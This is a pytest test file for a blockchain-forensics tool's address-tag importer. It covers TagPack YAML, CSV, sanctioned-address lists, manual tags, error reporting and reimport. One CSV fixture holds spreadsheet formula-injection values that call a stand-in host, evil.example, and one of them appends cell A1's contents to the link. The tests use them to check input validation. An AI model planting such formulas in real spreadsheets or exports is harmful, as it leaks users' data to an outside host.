"""Tag files one by one: TagPack inheritance, CSV, OFAC, manual tags, errors with file and line, idempotence."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from typer.testing import CliRunner

from chaintrail.cli.main import app
from chaintrail.errors import UsageError
from chaintrail.tags.tagstore import TagStore

# Valid mainnet addresses (hash160 of a word), as every imported tag's address must be.
SUSPECT = "1NQ1t8zssF3KqUXZXt6WyUmUadBFR1BgVr"
MANUAL = "1CgAiP88S8CDH7oQCkGB64zA3SAyD1RbDC"
CASE_A = "141MKtBiiMQXq7qYmDAbfFWoUNchjQfSPY"
CASE_B = "bc1qs7336fr6f6stp75ck2a34684tks0w7tann3d8l"
OTHER = "1FXsLKZYJv8V1RpcHo1eZPftMGrC3v5ris"
SANCTIONED_1 = "1KXkRkZUmbkqTD4fdAvS7g3kctJc3ibMrT"
SANCTIONED_2 = "1LomxusXxirRucmQjVdMiWsGsnbQbFF5Kk"
HYDRA = "126gH1Nb1GETCoy13RetecggD3C1PANbLa"
BAD_GUY = "12VaAzPQmyksZ2HesU5BoiQCRcJEXqwdCT"
TUMBLER = "bc1quw0twngx99hqfjgvh8lzal2a5cpuaqk73hk4vu"

PACK = """\
title: Test pack
creator: tests
description: header defaults are inherited
abuse: ransomware
currency: BTC
confidence: forensic
source: https://example.org/report
lastmod: 2024-01-31
is_cluster_definer: false
tags:
- address: 1GUobymZxc2BhhcruNydox74aHcz8jGcKh
  label: Locky
- address: bc1qAA782HAUGGF6X4MMQ2XTCR97W9UFJ66NJLFES3
  label: Mixer X
  abuse: null
  category: mixing_service
  is_cluster_definer: true
  lastmod: 2024-02-01
- address: 1Ba6xZSzdqss8mcYZktCG9CR9TB7f3CpCV
  label: Example Exchange
  abuse: null
  category: exchange
  actor: exampleexchange
  concepts:
  - hot_wallet
"""

ACTORS = """\
title: actors
creator: tests
actors:
- id: exampleexchange
  label: Example Exchange Ltd
  uri: https://example.exchange
  jurisdictions: [mt, GB]
  categories: [exchange]
"""


def write(folder: Path, name: str, text: str) -> Path:
    p = folder / name
    p.write_text(text, encoding="utf-8")
    return p


@pytest.fixture
def ts(tmp_path) -> TagStore:
    return TagStore(tmp_path / "store")


def test_tagpack_header_defaults_and_overrides(ts, tmp_path):
    f = write(tmp_path, "pack.yaml", PACK)
    write(tmp_path, "actors.yaml", ACTORS)
    rep = ts.import_paths([tmp_path])
    assert rep.ok and rep.tags_added == 3 and rep.actors == 1
    (locky,) = ts.lookup("1GUobymZxc2BhhcruNydox74aHcz8jGcKh")
    assert (locky.label, locky.abuse, locky.category, locky.confidence, locky.source, str(locky.lastmod)) == \
        ("Locky", "ransomware", None, "forensic", "https://example.org/report", "2024-01-31")
    assert (locky.is_cluster_definer, locky.currency, locky.origin_file, locky.origin_line) == \
        (False, "BTC", str(f.resolve()), 11)
    assert locky.risk_categories == ("ransomware",) and locky.tagpack == "Test pack" and locky.creator == "tests"
    (mixer,) = ts.lookup("bc1qaa782hauggf6x4mmq2xtcr97w9ufj66njlfes3")   # bech32 stored lower-case
    assert (mixer.abuse, mixer.category, mixer.is_cluster_definer, str(mixer.lastmod), mixer.origin_line) == \
        (None, "mixing_service", True, "2024-02-01", 13)
    assert mixer.risk_categories == ("mixer",)
    (ex,) = ts.lookup("1Ba6xZSzdqss8mcYZktCG9CR9TB7f3CpCV")
    assert ex.concepts == ("hot_wallet",) and ex.risk_categories == ("exchange",)
    actor = ts.actor(ex.actor)
    assert actor.jurisdictions == ("MT", "GB") and actor.label == "Example Exchange Ltd"


def test_bad_files_name_file_and_line_and_the_rest_loads(ts, tmp_path):
    """A file that cannot be read fails whole (file:line); a bad row is left out and its file still loads."""
    good_a, good_b = SANCTIONED_1, SANCTIONED_2
    write(tmp_path, "good.yaml", PACK)
    bad_yaml = write(tmp_path, "bad.yaml", "title: t\ntags:\n- address: a\n  label: [unclosed\n- address: b\n")
    no_addr = write(tmp_path, "noaddr.yaml", "title: t\ntags:\n- address: 1a\n- label: nothing here\n")
    bad_bool = write(tmp_path, "bool.yaml",
                     "title: t\ntags:\n- address: 1a\n- address: 1b\n  is_cluster_definer: maybe\n")
    bad_json = write(tmp_path, "sanctioned_addresses_ETH.json", '[\n  "0xabc",\n  42\n]\n')
    bad_csv = write(tmp_path, "bad.csv", f"address,label,is_cluster_definer\n{good_a},A,yes\n{good_b},B,sometimes\n")
    wide_csv = write(tmp_path, "wide.csv", f"address,label\n{good_b},A\n{good_a},B,extra\n")
    bad_txt = write(tmp_path, "sanctioned_addresses_XBT.txt", f"{good_a}\n\n1two words\n")
    rep = ts.import_paths([tmp_path])
    assert sorted(e.split(": ")[0] for e in rep.errors) == sorted(
        [f"{bad_yaml.resolve()}:4", f"{no_addr.resolve()}:4", f"{bad_bool.resolve()}:4", f"{bad_json.resolve()}:3"])
    assert "is_cluster_definer" in next(e for e in rep.errors if "bool.yaml" in e)
    assert sorted(e.split(": ")[0] for e in rep.bad_lines) == sorted(
        [f"{bad_csv.resolve()}:3", f"{wide_csv.resolve()}:3", f"{bad_txt.resolve()}:3"])
    assert not rep.ok and rep.tags_added == 3 + 1 + 1 + 1 and len(ts) == 6
    assert [(t.label, t.origin_line) for t in ts.lookup(good_a) if t.origin_file == str(bad_csv.resolve())] == \
        [("A", 2)]


def test_every_bad_line_is_named_and_the_good_rows_load(ts, tmp_path):
    """Issue 18.8: not-an-address, a bad checksum and a formula imported with exit 0; one bad row lost the file."""
    good = SANCTIONED_1
    typo = good[:-1] + ("s" if good[-1] != "s" else "t")          # one character off: checksum fails
    seg = TUMBLER
    seg_typo = seg[:-1] + ("q" if seg[-1] != "q" else "p")
    f = write(tmp_path, "case.csv", "address,label,currency\n"
              f"{good},Good one,BTC\n"
              "not-an-address,Junk,BTC\n"
              f"{typo},Typo,BTC\n"
              '"=HYPERLINK(""http://evil.example/?"" & A1, ""click"")",Formula,\n'
              f"{seg},Segwit,\n"
              f"{seg_typo},Segwit typo,BTC\n"
              "0x52908400098527886E0F7030069857D2E4169EE7,Eth wallet,ETH\n"
              "0x5290,Short eth,ETH\n"
              f"{good},=HYPERLINK(\"http://evil.example\"),BTC\n")
    rep = ts.import_paths([f])
    where = str(f.resolve())
    assert [e.split(": ")[0] for e in rep.bad_lines] == [f"{where}:{n}" for n in (3, 4, 5, 7, 9)]
    assert "checksum" in rep.bad_lines[1] and "checksum" in rep.bad_lines[3]
    assert rep.errors == [] and not rep.ok and rep.tags_added == 4
    # Labels are data: a label that starts with '=' is kept as given (exports neutralise it).
    assert sorted(t.label for t in ts.lookup(good)) == ["=HYPERLINK(\"http://evil.example\")", "Good one"]
    assert ts.lookup("not-an-address") == [] and ts.lookup(typo) == []
    # The CLI prints every bad line, imports the rest, and exits 2; --json lists them.
    store = tmp_path / "cli-store"
    res = CliRunner().invoke(app, ["tags", "import", str(f), "--store", str(store), "--json"])
    assert res.exit_code == 2
    out = json.loads(res.stdout)
    assert out["ok"] is False and out["tags_added"] == 4 and len(out["bad_lines"]) == 5
    assert out["files"][0]["bad_lines"] == out["bad_lines"]
    res = CliRunner().invoke(app, ["tags", "import", str(f.with_name("case.csv")), "--store", str(tmp_path / "s2")])
    assert res.exit_code == 2
    for n in (3, 4, 5, 7, 9):
        assert f"case.csv:{n}:" in res.output.replace("\n", "")


def test_manual_tag_address_is_checked(ts):
    with pytest.raises(UsageError, match="not a Bitcoin address"):
        ts.add_tag("=HYPERLINK(1)", "x")
    with pytest.raises(UsageError, match="checksum"):
        ts.add_tag("1KXkRkZUmbkqTD4fdAvS7g3kctJc3ibMrS", "x")
    assert len(ts) == 0


def test_csv_with_screening_category_names(ts, tmp_path):
    f = write(tmp_path, "case.csv",
              "Address;Label;Category;Concepts;is_cluster_definer;Source\n"
              "126gH1Nb1GETCoy13RetecggD3C1PANbLa;Hydra;darknet market;dark_web;true;court order 12\n"
              "12VaAzPQmyksZ2HesU5BoiQCRcJEXqwdCT;Bad guy;ransomware;;no;report\n"
              "BC1QUW0TWNGX99HQFJGVH8LZAL2A5CPUAQK73HK4VU;Tumbler;mixer;;;\n")
    rep = ts.import_paths([f])
    assert rep.ok and rep.tags_added == 3
    (h,) = ts.lookup(HYDRA)
    assert (h.category, h.concepts, h.is_cluster_definer, h.risk_categories, h.origin_line) == \
        ("market", ("dark_web",), True, ("darknet_market",), 2)
    (r,) = ts.lookup(BAD_GUY)
    assert (r.abuse, r.category, r.is_cluster_definer, r.risk_categories) == ("ransomware", None, False,
                                                                             ("ransomware",))
    assert ts.lookup(TUMBLER)[0].risk_categories == ("mixer",)


def test_reimport_replaces_only_that_files_rows(ts, tmp_path):
    a = write(tmp_path, "a.yaml", PACK)
    b = write(tmp_path, "sanctioned_addresses_XBT.txt", f"{SANCTIONED_1}\n{SANCTIONED_2}\n")
    ts.import_paths([tmp_path])
    first = ts.tags
    again = ts.import_paths([a, b])
    assert again.tags_added == 0 and ts.tags.equals(first)
    write(tmp_path, "sanctioned_addresses_XBT.txt", "1KXkRkZUmbkqTD4fdAvS7g3kctJc3ibMrT\n")
    third = ts.import_paths([b])
    assert (third.tags_added, third.tags_removed, len(ts)) == (1, 2, 4)
    assert ts.lookup(SANCTIONED_2) == [] and ts.lookup(SANCTIONED_1)[0].risk_categories == ("sanctioned",)
    # A fresh handle reads the same thing back from disk.
    assert TagStore(ts.root).tags.equals(ts.tags)


def test_manual_tags_record_user_and_case_and_do_not_duplicate(ts):
    t = ts.add_tag(SUSPECT, "Suspect wallet", category="darknet market", user="alice", case="C-7",
                   source="subpoena return 2024-11", is_cluster_definer=True)
    assert (t.category, t.risk_categories, t.origin_user, t.origin_case, t.origin_file) == \
        ("market", ("darknet_market",), "alice", "C-7", None)
    assert t.provenance == "added by alice, case C-7"
    ts.add_tag(SUSPECT, "Suspect wallet", category="darknet market", user="alice", case="C-7",
               source="subpoena return 2024-11", is_cluster_definer=True)
    assert len(ts) == 1
    ts.add_tag(SUSPECT, "Suspect wallet", category="ransomware", user="bob")
    assert [x.risk_categories for x in TagStore(ts.root).lookup(SUSPECT)] == [("darknet_market",),
                                                                                ("ransomware",)]
    with pytest.raises(UsageError):
        ts.add_tag("1X", "x", category="not a category")


def test_cli_import_add_show(tmp_path):
    runner = CliRunner()
    store = tmp_path / "store"
    write(tmp_path, "pack.yaml", PACK)
    write(tmp_path, "broken.yaml", "title: t\ntags:\n- address: [\n")
    res = runner.invoke(app, ["tags", "import", str(tmp_path), "--store", str(store), "--json", "--workers", "1"])
    assert res.exit_code == 2, res.output
    out = json.loads(res.stdout)
    assert out["total_tags"] == 3 and len(out["errors"]) == 1 and "broken.yaml:3" in out["errors"][0]
    res = runner.invoke(app, ["tags", "add", MANUAL, "--label", "Seized wallet", "--category", "scam",
                              "--user", "carol", "--case", "OP-1", "--store", str(store), "--json"])
    assert res.exit_code == 0, res.output
    assert json.loads(res.stdout)["abuse"] == "scam"
    res = runner.invoke(app, ["tags", "show", MANUAL, "--store", str(store), "--json"])
    shown = json.loads(res.stdout)
    assert [(t["label"], t["origin_user"], t["origin_case"]) for t in shown["tags"]] == \
        [("Seized wallet", "carol", "OP-1")]
    res = runner.invoke(app, ["tags", "add", "1X", "--label", "x", "--category", "nonsense", "--store", str(store)])
    assert res.exit_code == 5 and "unknown category" in res.output


def test_export_as_tagpack_and_import_elsewhere(ts, tmp_path):
    import yaml

    from chaintrail.tags.export import select_tags, write_tagpack

    ts.add_tag(CASE_A, "Suspect A", category="ransomware", source="warrant 17", user="alice", case="C-9",
               confidence="manual_transaction")
    ts.add_tag(CASE_B, "Suspect B", category="mixer", source="warrant 17", user="alice", case="C-9",
               confidence="manual_transaction", is_cluster_definer=True)
    ts.add_tag(OTHER, "Unrelated", category="exchange", user="bob", case="C-1")
    out = tmp_path / "export" / "case.yaml"
    out.parent.mkdir()
    assert write_tagpack(select_tags(ts.tags, case="C-9"), out, "Case C-9", "alice") == 2
    pack = yaml.safe_load(out.read_text())
    # Shared fields are lifted into the header, as GraphSense packs do.
    assert (pack["title"], pack["source"], pack["confidence"], pack["currency"]) == \
        ("Case C-9", "warrant 17", "manual_transaction", "BTC")
    assert [t["address"] for t in pack["tags"]] == [CASE_A, CASE_B]
    other = TagStore(tmp_path / "partner")
    assert other.import_paths([out]).tags_added == 2
    a, b = other.lookup(CASE_A)[0], other.lookup(CASE_B)[0]
    assert (a.abuse, a.risk_categories, a.is_cluster_definer, a.source) == ("ransomware", ("ransomware",), False,
                                                                          "warrant 17")
    assert (b.category, b.risk_categories, b.is_cluster_definer) == ("mixing_service", ("mixer",), True)
    assert json.loads(a.context)["chaintrail_provenance"] == {"user": "alice", "case": "C-9"}
    assert a.lastmod == ts.lookup(CASE_A)[0].lastmod


def test_parallel_import_gives_the_same_table(tmp_path, monkeypatch):
    from chaintrail.tags import importer

    src = tmp_path / "src"
    src.mkdir()
    write(src, "a.yaml", PACK)
    write(src, "b.csv", f"address,label,category\n{HYDRA},A,scam\n{BAD_GUY},B,exchange\n")
    write(src, "sanctioned_addresses_XBT.txt", "1HBzgpqzb5DpqK2DCuzxEspQEsZZjhFm7z\n"
          "1J7rDcaSB3vfAwv8STzNPeLj9o11vHWgDP\n1JXEmYx5aE4kaqWSdA1tJua6WbeS2MBUgU\n")
    serial = TagStore(tmp_path / "serial")
    serial.import_paths([src], workers=1)
    monkeypatch.setattr(importer, "_PARALLEL_BYTES", 0)
    parallel = TagStore(tmp_path / "parallel")
    rep = parallel.import_paths([src], workers=2)
    assert rep.ok and rep.tags_added == 8
    assert parallel.tags.equals(serial.tags)


def test_csv_line_ends_and_quoted_newlines_read_alike():
    """The CSV reader walks the text's lines (no 4-byte-a-character copy of it): LF, CRLF and lone-CR files,
    and a quoted label across two lines, give the same tags and the same line numbers for a bad row."""
    from chaintrail.tags.csvtags import read_csv

    rows = ["address,label,category", "bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq,\"Two\nlines\",exchange",
            "not-an-address-row-without,,", "1BoatSLRHtKNngkdXEeobR76b53LETtpyT,Boat,mixer", ""]
    got = []
    for end in ("\n", "\r\n", "\r"):
        text = end.join(rows)
        tags, _, bad = read_csv(text, "t.csv")
        got.append((tags.select(["address", "label", "category", "origin_line"]).to_pylist(),
                    [(e.line if hasattr(e, "line") else str(e)) for e in bad]))
    assert got[0] == got[1] == got[2]
    assert [t["label"] for t in got[0][0]] == ["Two\nlines", None, "Boat"]      # addresses are checked later
